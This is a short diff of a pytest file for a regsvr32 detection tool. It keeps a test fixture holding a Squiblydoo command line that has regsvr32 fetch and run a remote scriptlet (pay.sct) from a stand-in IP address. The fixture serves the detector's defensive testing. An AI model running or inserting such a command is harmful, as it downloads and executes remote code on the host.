@@ -2,9 +2,11 @@
 import pytest
 
 from regsvr32_detector import OUTPUT_FIELDS, RULES_BY_ID, Detector, load_allowlists
-from regsvr32_detector.rules import proc
+from events import proc
 
 from allowlists import HEADER, allowlist_row
+
+pytestmark = pytest.mark.pure
 
 SQUIBLYDOO = proc("regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll")
 
